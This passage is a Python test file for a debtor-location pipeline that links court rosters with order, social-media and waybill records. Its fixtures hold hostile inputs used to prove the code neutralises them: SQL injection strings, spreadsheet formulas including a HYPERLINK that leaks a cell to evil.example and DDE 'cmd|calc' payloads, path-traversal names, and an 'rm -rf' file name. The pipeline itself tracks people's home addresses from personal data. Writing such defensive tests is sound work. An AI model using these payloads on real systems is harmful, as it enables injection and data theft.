p = subprocess.run(sys.argv[1:], capture_output=True, text=True)
print(json.dumps({"rc": p.returncode, "out": p.stdout, "err": p.stderr[-3000:],
                  "maxrss_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""
_READ = """
import json, sys, time
from pathlib import Path
from sources import ecommerce, logistics, roster, social
mod = {"ecommerce": ecommerce, "debtors": roster, "social": social, "logistics": logistics}[sys.argv[1]]
t = time.time()
r = mod.read(Path(sys.argv[2]), rel_name=sys.argv[1] + "/x", platform="x")
print(json.dumps({"error": r.error, "read": r.rows_read, "kept": r.rows_kept, "q": r.rows_quarantined,
                  "lines": r.quarantine["line"].to_list(), "reasons": r.quarantine["reason"].to_list(),
                  "raw_len": r.quarantine["raw"].str.len_chars().to_list(),
                  "kept_lines": r.rows["line"].unique().sort().to_list(), "s": time.time() - t}))
"""


def _measure(kind: str, path: Path) -> tuple[dict, float]:
    root = Path(__file__).resolve().parent.parent
    env = dict(os.environ, PYTHONPATH=str(root), POLARS_MAX_THREADS="2")
    p = subprocess.run([sys.executable, "-c", _WRAPPER, sys.executable, "-c", _READ, kind, str(path)],
                       capture_output=True, text=True, env=env, cwd=root, timeout=300)
    assert p.returncode == 0, p.stderr
    w = json.loads(p.stdout)
    assert w["rc"] == 0, w["err"]          # no crash, no MemoryError, no panic
    return json.loads(w["out"]), w["maxrss_kb"] / 1024


@pytest.mark.slow
def test_a_1gb_single_line_is_quarantined_in_bounded_memory(tmp_path):
    """~1 GB with no line break, between a header and good records, read by every adapter in
    its own process: the giant line is one quarantined row, the rows after it are kept, and
    peak memory stays far below the file size.  One file serves all four adapters (its
    first line is a CSV header with both the roster's and the e-commerce columns; a parquet
    name is a hard link to the same bytes)."""
    cols = roster.COLUMNS + ecommerce.COLUMNS
    good = {**ro_good("G1", "茹某明", "浙江省杭州市西湖区"), **ec_good("G1", "茹某明", "浙江省杭州市西湖区")}
    big = tmp_path / "big.csv"
    try:
        with open(big, "wb") as fh:
            fh.write((",".join(cols) + "\r\n").encode("utf-8"))
            fh.write(b'{"uid": "huge", "nickname": "')
            chunk = ("路" * (1 << 22)).encode("utf-8")        # 12 MB a write
            for _ in range(ONE_GB // len(chunk) + 1):
                fh.write(chunk)
            fh.write(b'"}\r\n')
            fh.write((json.dumps({"uid": "u1", "real_name": "茹某明", "phone": "13857101115"}, ensure_ascii=False)
                      + "\r\n").encode("utf-8"))
            fh.write((csv_record([good[c] for c in cols]) + "\r\n").encode("utf-8"))
        size_mb = big.stat().st_size / 2**20
        assert size_mb > 1024
        links = {}
        for kind, name in (("debtors", "r.csv"), ("ecommerce", "p_orders_20261127.csv"),
                           ("social", "s_accounts_20261127.jsonl"), ("logistics", "c_waybills_20261127.parquet")):
            links[kind] = tmp_path / name
            os.link(big, links[kind])
        for kind, path in links.items():
            out, peak_mb = _measure(kind, path)
            assert peak_mb < PEAK_LIMIT_MB, (kind, f"peak RSS {peak_mb:.0f} MB for a {size_mb:.0f} MB line")
            if kind == "logistics":
                assert out["error"] and "parquet" in out["error"]
                continue
            assert out["error"] is None
            # CSV: 3 records after the header; JSONL: the header line is a (bad) record too
            assert out["read"] == out["kept"] + out["q"] == (4 if kind == "social" else 3), (kind, out)
            assert out["kept"] == 1, (kind, out)
            reasons = dict(zip(out["lines"], out["reasons"]))
            assert reasons[2].startswith("line longer than 1 MB (1,") and "bytes)" in reasons[2], reasons
            assert max(out["raw_len"]) <= common.RAW_CHARS
            # the record after the giant line is kept (line 3 JSON for social, line 4 CSV for the others)
            assert out["kept_lines"] == ([3] if kind == "social" else [4]), out
    finally:
        for p in tmp_path.iterdir():
            p.unlink()


# --------------------------------------------------------------------------- 3-5. one hostile night

AS_OF = "2026-11-27"
SQL_NAME = "x'); DROP TABLE debtors; --"
SQL_CASE = "(2025)浙1003执7号'); DELETE FROM locations; --"
SQL_ADDR_TAIL = "'); DROP TABLE locations; --"


def _person_id(first17: str) -> str:
    from linkage.idnumbers import id_checksum
    return first17 + id_checksum(first17)


# (name, id, phone, home address, court, judge, case number)
PEOPLE = [
    ("茹某明", _person_id("33050219800101123"), "13857101115", "浙江省绍兴市柯桥区笛扬路88号金色家园3幢2单元501室",
     "台州市黄岩区人民法院", '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "(2025)浙1003执1号"),
    ("王小红", _person_id("33010219900202234"), "13900001111", "浙江省杭州市西湖区文三路100号2幢3单元401室",
     "../../etc", "+1+cmd|' /C calc'!A0", "(2025)浙1003执2号"),
    (SQL_NAME, _person_id("33010219850303345"), "13700002222", "浙江省杭州市上城区解放路8号5幢1单元201室",
     "a/b", "-2+3", SQL_CASE),
    ("李四", _person_id("33010219750404456"), "13600003333", "浙江省宁波市海曙区中山西路20号3幢2单元602室",
     "a_b", "@SUM(A1:A9)", "(2025)浙1003执4号"),
    ("张三", _person_id("33010219950505567"), "13500004444", "浙江省温州市鹿城区人民路5号1幢1单元101室",
     "x'); DROP TABLE reports; --", "\t=1+1", "(2025)浙1003执5号"),
    ("赵六", _person_id("33010219650606678"), "13400005555", "浙江省嘉兴市南湖区中山路9号6幢2单元302室",
     "..", "\r=cmd", "(2025)浙1003执6号"),
    ("陈七", _person_id("33010219920707789"), "13300006666", "浙江省湖州市吴兴区红旗路3号2幢1单元402室",
     "", "王法官", "(2025)浙1003执8号"),     # no 执行法院 at all
]


def _hostile_inbox(root: Path) -> Path:
    ib = root / "inbox"
    for k in ("debtors", "ecommerce", "social", "logistics"):
        (ib / k).mkdir(parents=True)
    # roster
    rows = [RO_HEADER]
    for name, idn, phone, _, court, judge, case in PEOPLE:
        v = ro_good("", name, "浙江省台州市黄岩区某路1号")
        v.update({"案号": case, "执行法院": court, "承办人": judge, "证件号码": idn, "联系电话": phone})
        rows.append(csv_record([v[c] for c in roster.COLUMNS]))
    rows.append(ro_line("BAD", amount="一百万"))                     # a bad row among them
    (ib / "debtors" / "roster_20261127.csv").write_bytes(("\r\n".join(rows) + "\r\n").encode("utf-8-sig"))
    (ib / "debtors" / "roster_utf16.csv").write_bytes(("\r\n".join(rows)).encode("utf-16"))   # 'Unicode text'; no final line break
    # orders: five deliveries a person, from a platform whose name is itself a formula
    for fname, people in (("shopA_orders_20261127.csv", PEOPLE[:1] + PEOPLE[2:]),
                          ("=cmd|calc!A0_orders_20261127.csv", PEOPLE[1:2])):
        lines, n = [EC_HEADER], 0
        for name, idn, phone, addr, *_ in people:
            if name == SQL_NAME:
                addr = addr + SQL_ADDR_TAIL
            for d in range(5):
                n += 1
                lines.append(csv_record([f"O{n}", f"B{idn[-4:]}", name, idn, phone, name, "+86 " + phone, addr,
                                         f"2026/11/{10 + d} 10:00:00", f"2026/11/{11 + d} 19:00:00", "12.5",
                                         "=1+1"]))
        lines += ['"', ec_line("FORMULA1", addr='=HYPERLINK("http://evil")'), "x,y,z", ec_line("LONG", addr="路" * 2000)]
        (ib / "ecommerce" / fname).write_bytes(("\r\n".join(lines) + "\r\n").encode("gb18030"))
    # a file name with a line break, dots and dashes: only ever a label, never a path
    odd = [EC_HEADER] + [csv_record(["N1", "B9", p0[0], p0[1], p0[2], p0[0], p0[2], p0[3], "2026/11/01 10:00:00",
                                     "2026/11/02 10:00:00", "1", "x"])
                         for p0 in PEOPLE[:1]]
    (ib / "ecommerce" / "..\n-- ; rm -rf _orders_2026.csv").write_bytes(("\r\n".join(odd) + "\r\n").encode("gb18030"))
    (ib / "ecommerce" / "broken_orders_20261127.csv").write_bytes(random.Random(1).randbytes(5000))
    (ib / "ecommerce" / "empty_orders_20261127.csv").write_bytes(b"")
    # social: a good account of 茹某明 among garbage
    p0 = PEOPLE[0]
    lines = [json.dumps({"uid": "wb1", "real_name": p0[0], "id_no": p0[1], "phone": p0[2],
                         "geo_posts": [{"ts": "2026-11-02T19:05:00+08:00", "address": p0[3]}]}, ensure_ascii=False),
             "{not json", json.dumps({"uid": "wb2", "real_name": "=1+1"}), "\x00\x01", "[]"]
    (ib / "social" / "wb_accounts_20261127.jsonl").write_bytes(("\n".join(lines) + "\n").encode("utf-8"))
    (ib / "social" / "gz_accounts_20261127.jsonl").write_bytes(b"\x1f\x8b\x08\x00" + bytes(100))
    # waybills: phones as floats, one time out of any calendar, a truncated file
    t = pa.table({"waybill_no": ["W1", "W2"], "sender_name": ["某商家", "某商家"],
                  "sender_phone": [57187054420.0, None], "sender_address": ["浙江省义乌市某仓库", "x"],
                  "receiver_name": [PEOPLE[3][0], "=x"], "receiver_phone": [float(PEOPLE[3][2]), None],
                  "receiver_address": [PEOPLE[3][3], "y"],
                  "pickup_time": pa.array([1795700000 * 10**6, 2**62], pa.int64()).cast(pa.timestamp("us")),
                  "sign_time": pa.array([None, None], pa.timestamp("s")), "sign_type": ["本人签收", None]})
    pq.write_table(t, ib / "logistics" / "sf_waybills_20261127.parquet")
    data = (ib / "logistics" / "sf_waybills_20261127.parquet").read_bytes()
    (ib / "logistics" / "zto_waybills_20261127.parquet").write_bytes(data[: len(data) // 2])
    return ib


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    from pipelines.cli import run_direct

    root = tmp_path_factory.mktemp("hostile") / "deep" / "root"
    root.mkdir(parents=True)
    ib = _hostile_inbox(root)
    inbox_files = sorted(str(p.relative_to(ib)) for p in ib.rglob("*") if p.is_file())
    db, reports_dir = root / "out" / "locate.duckdb", root / "reports"
    db.parent.mkdir()
    seen: dict[str, int] = {}          # every regular file that appears during the run -> modes seen
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            for p in [*db.parent.iterdir(), *(reports_dir.rglob("*") if reports_dir.exists() else [])]:
                try:
                    st_ = p.lstat()
                except FileNotFoundError:
                    continue
                if stat.S_ISREG(st_.st_mode):
                    seen[p.name] = seen.get(p.name, 0) | stat.S_IMODE(st_.st_mode)
            stop.wait(0.02)

    watcher = threading.Thread(target=watch, daemon=True)
    old = os.umask(0)          # the most permissive umask: modes must come from the code
    try:
        watcher.start()
        started = dt.datetime.now()
        summary = run_direct(str(ib), str(db), str(reports_dir), AS_OF)
        finished = dt.datetime.now()
    finally:
        os.umask(old)
        stop.set()
        watcher.join()
    con = duckdb.connect(str(db), read_only=True)
    tables = {t: con.sql(f"SELECT * FROM {t}").pl() for t in
              ("roster_cases", "debtors", "observations", "locations", "contacts", "ingested_files",
               "quarantine", "runs", "reports")}
    con.close()
    reports = {}
    for p in sorted((reports_dir / AS_OF).glob("*.csv")):
        with open(p, encoding="utf-8-sig", newline="") as fh:
            reports[p] = list(csv.reader(fh))
    return {"root": root, "inbox": ib, "inbox_files": inbox_files, "db": db, "reports_dir": reports_dir,
            "summary": summary, "t": tables, "reports": reports, "started": started, "finished": finished,
            "modes_seen": seen}


def test_hostile_night_accounts_for_every_file_and_row(hostile_run):
    t, s = hostile_run["t"], hostile_run["summary"]
    assert t["runs"]["outcome"].to_list() == ["success"]
    ledger = {r["file"]: r for r in t["ingested_files"].to_dicts()}
    q = t["quarantine"]
    file_errors = dict(zip(q.filter(pl.col("line") == 0)["file"], q.filter(pl.col("line") == 0)["reason"]))
    # every entry of the inbox is either in the ledger or reported as an unreadable file
    assert set(hostile_run["inbox_files"]) == set(ledger) | set(file_errors)
    for f, r in ledger.items():
        assert r["rows_read"] == r["rows_kept"] + r["rows_quarantined"], r
        assert q.filter((pl.col("file") == f) & (pl.col("line") > 0)).height == r["rows_quarantined"], f
        assert (r["error"] is None) == (f not in file_errors), f
    for f, reason in file_errors.items():
        assert reason and re.search(r"[a-z]{4}", reason), (f, reason)
    # the roster saved as UTF-16 ('Unicode text' from Excel) loses no row
    assert ledger["debtors/roster_utf16.csv"]["rows_kept"] == len(PEOPLE)
    assert ledger["debtors/roster_utf16.csv"]["rows_quarantined"] == 1
    assert "gzip" in file_errors["social/gz_accounts_20261127.jsonl"]
    assert "parquet" in file_errors["logistics/zto_waybills_20261127.parquet"]
    assert "binary" in file_errors["ecommerce/broken_orders_20261127.csv"]
    # bad rows went to quarantine with a reason; the good ones around them were all kept
    assert ledger["ecommerce/..\n-- ; rm -rf _orders_2026.csv"]["rows_kept"] == 1
    shop = ledger["ecommerce/shopA_orders_20261127.csv"]
    assert (shop["rows_read"], shop["rows_kept"], shop["rows_quarantined"]) == (34, 30, 4)
    assert ledger["debtors/roster_20261127.csv"]["rows_kept"] == len(PEOPLE)
    assert ledger["logistics/sf_waybills_20261127.parquet"]["rows_kept"] == 1
    assert ledger["social/wb_accounts_20261127.jsonl"]["rows_kept"] == 1
    assert s["rows_read"] == s["rows_kept"] + s["rows_quarantined"]
    assert t["runs"]["rows_quarantined"][0] == q.filter(pl.col("line") > 0).height


def test_hostile_night_every_located_case_is_reported(hostile_run):
    t = hostile_run["t"]
    located = set(t["locations"]["id_number"])
    assert located == {p[1] for p in PEOPLE}, "each debtor should be located from their orders"
    in_reports = {row[0] for rows in hostile_run["reports"].values() for row in rows[1:]}
    assert {p[6] for p in PEOPLE} <= in_reports, "a located open case is missing from every report"


def test_hostile_night_reports_carry_no_formula(hostile_run):
    cells = 0
    for path, rows in hostile_run["reports"].items():
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        for row in rows:
            for cell in row:
                cells += 1
                assert not cell.startswith(FORMULA_START), (path.name, cell)
    assert cells > 100
    judges = {row[3] for rows in hostile_run["reports"].values() for row in rows[1:]}
    # the judges' names arrive as formulas (the court's own free text is not quarantined): neutralised, kept
    assert "'" + PEOPLE[0][5] in judges and "'-2+3" in judges and "'@SUM(A1:A9)" in judges
    assert "'=1+1" in judges and "'=cmd" in judges and "'+1+cmd|' /C calc'!A0" in judges


def test_hostile_night_reports_mask_every_id(hostile_run):
    ids = {p[1] for p in PEOPLE}
    for path, rows in hostile_run["reports"].items():
        header = rows[0]
        col = header.index("证件号码")
        for row in rows[1:]:
            assert re.fullmatch(r"[0-9]{6}\*{8}[0-9X]{4}", row[col]), row[col]
            assert row[col][:6] + row[col][-4:] in {i[:6] + i[-4:] for i in ids}
        text = path.read_text(encoding="utf-8-sig")
        assert not any(i in text or i[6:14] in text for i in ids), path.name


def test_hostile_night_outputs_are_owner_only(hostile_run):
    """Run under umask 000: every mode below comes from the code, not the environment."""
    mode = lambda p: stat.S_IMODE(p.stat().st_mode)  # noqa: E731
    assert mode(hostile_run["db"]) == 0o600
    day = hostile_run["reports_dir"] / AS_OF
    assert mode(day) == 0o700
    assert hostile_run["reports"]
    for p in hostile_run["reports"]:
        assert mode(p) == 0o600, p.name
    for p in hostile_run["db"].parent.iterdir():     # the run lock may stay; nothing else
        assert p == hostile_run["db"] or (p.name == ".locate.duckdb.lock" and mode(p) == 0o600), p.name


def test_hostile_night_no_file_is_ever_readable_by_others_even_mid_run(hostile_run):
    loose = {name: oct(m) for name, m in hostile_run["modes_seen"].items() if m & 0o077}
    assert hostile_run["modes_seen"] and not loose, loose


def test_hostile_night_sql_payloads_stay_data(hostile_run):
    t = hostile_run["t"]
    assert {"debtors", "locations", "reports"} <= set(t)      # the tables survived
    assert t["debtors"].height == len(PEOPLE)
    assert SQL_NAME in t["debtors"]["name"].to_list()
    assert SQL_CASE in t["roster_cases"]["case_no"].to_list()
    assert "x'); DROP TABLE reports; --" in t["roster_cases"]["court"].to_list()
    assert "x'); DROP TABLE reports; --" in t["reports"]["court"].to_list()
    assert any(a.endswith(SQL_ADDR_TAIL) for a in t["observations"]["address_raw"].drop_nulls().to_list())
    rows = [r for rows in hostile_run["reports"].values() for r in rows[1:]]
    assert any(r[0] == SQL_CASE and r[1] == SQL_NAME for r in rows)


def test_hostile_night_court_names_cannot_steer_report_paths(hostile_run):
    root, day = hostile_run["root"], hostile_run["reports_dir"] / AS_OF
    made = {p for p in root.rglob("*") if p.is_file() and hostile_run["inbox"] not in p.parents
            and not p.name.endswith(".lock")}
    assert made == {hostile_run["db"], *hostile_run["reports"]}, sorted(map(str, made))
    for p in hostile_run["reports"]:
        assert p.parent == day and not p.name.startswith(".")
    assert sorted(os.listdir(root.parent)) == ["root"]      # nothing written beside or above the run
    # one file per court: 'a/b' and 'a_b' must not overwrite each other
    courts = {p[4] or None for p in PEOPLE}
    assert len(hostile_run["reports"]) == len(courts)


def test_hostile_night_audit_matches_the_files(hostile_run):
    t = hostile_run["t"]
    run_id = t["runs"]["run_id"][0]
    audit = t["reports"].filter(pl.col("run_id") == run_id)
    assert audit.height == len(hostile_run["reports"]) == t["reports"].height
    day = hostile_run["reports_dir"] / AS_OF
    assert set(audit["file"]) == {p.name for p in hostile_run["reports"]}
    for r in audit.to_dicts():
        path = day / r["file"]
        assert r["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest(), r["file"]
        assert r["rows"] == len(hostile_run["reports"][path]) - 1, r["file"]
        assert r["court"]
        assert hostile_run["started"] <= r["written_at"] <= hostile_run["finished"]
    assert set(audit["court"]) == {p[4] or "未知法院" for p in PEOPLE}


# --------------------------------------------------------------------------- 4. no data in SQL text

CODE_DIRS = ("pipelines", "publish", "linkage", "sources", "synth")
SQL_CALLS = {"execute", "executemany", "sql", "query"}
TABLE_CALLS = {"replace_table", "append_table", "read_table"}
SQL_IDENTIFIERS = {"table"}       # variables that hold a table name written in the code


def _interpolation_ok(e: ast.expr) -> bool:
    if isinstance(e, ast.Constant):
        return True
    if isinstance(e, ast.Call) and isinstance(e.func, ast.Name) and e.func.id in {"int", "float", "len"}:
        return True                          # a number cannot close a quote
    if isinstance(e, ast.Name):              # module constants (_OBS, COLUMNS) and table names
        return e.id.lstrip("_").isupper() or e.id in SQL_IDENTIFIERS
    return False


def test_no_value_is_ever_interpolated_into_sql_text():
    """Values reach DuckDB as ? parameters or registered frames, never inside the SQL text:
    an f-string / .format() given to execute()/sql()/query() may only splice in numbers,
    constants of the code, or a table name the code wrote (and those helpers are only
    ever called with a literal table name)."""
    root = Path(__file__).resolve().parent.parent
    bad = []
    for d in CODE_DIRS:
        for path in sorted((root / d).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if not isinstance(node, ast.Call):
                    continue
                f = node.func
                name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
                where = f"{path.relative_to(root)}:{node.lineno}"
                if name in TABLE_CALLS and isinstance(f, ast.Attribute) and len(node.args) >= 2:
                    if not (isinstance(node.args[1], ast.Constant) and isinstance(node.args[1].value, str)):
                        bad.append(f"{where}: table name is not a literal: {ast.unparse(node.args[1])}")
                if name not in SQL_CALLS:
                    continue
                for arg in node.args:
                    parts = []
                    if isinstance(arg, ast.JoinedStr):
                        parts = [v.value for v in arg.values if isinstance(v, ast.FormattedValue)]
                    elif (isinstance(arg, ast.Call) and isinstance(arg.func, ast.Attribute)
                          and arg.func.attr == "format"):
                        parts = list(arg.args) + [k.value for k in arg.keywords]
                    bad += [f"{where}: {ast.unparse(p)} spliced into SQL text" for p in parts
                            if not _interpolation_ok(p)]
    assert not bad, "use ? parameters for values:\n" + "\n".join(bad)
